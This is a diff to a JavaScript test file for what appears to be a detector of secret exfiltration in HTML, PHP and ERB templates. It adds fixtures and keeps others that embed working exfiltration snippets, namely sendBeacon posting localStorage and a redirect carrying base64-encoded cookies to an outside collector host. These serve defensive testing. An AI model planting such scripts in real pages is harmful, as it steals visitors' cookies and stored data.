@@ -21,6 +21,8 @@ test.each([
     2,
   ],
   ["a.html", `<script>navigator.sendBeacon("https://stats.collect-it.io/p", JSON.stringify(localStorage))</script>`, 1],
+  ["a.php", `<?php $t = 1; ?>\n<script>\nconst total = <?= $t ?>;\n${THIEF}\n</script>`, 4],
+  ["mail.erb", `<p><%= name %></p>\n<script>${THIEF}</script>`, 2],
   ["a.html", `<script>location.href = "https://stats.collect-it.io/p?" + btoa(document.cookie)</script>`, 1],
 ])("follows the scripts of %s: %s", async (path, text, line) => {
   expect(await found(path, text)).toStrictEqual([`block secret-exfiltration:${line}`]);
